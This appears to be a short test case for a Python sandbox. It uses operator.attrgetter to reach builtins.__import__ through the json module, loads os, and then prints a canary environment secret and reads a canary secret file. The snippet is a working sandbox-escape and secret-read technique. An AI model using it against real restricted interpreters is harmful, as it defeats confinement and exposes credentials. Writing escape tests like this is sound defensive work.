# Operator.attrgetter walks dotted names.
# breach: leak
import operator, json
o = operator.attrgetter('codecs.builtins.__import__')(json)('os')
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
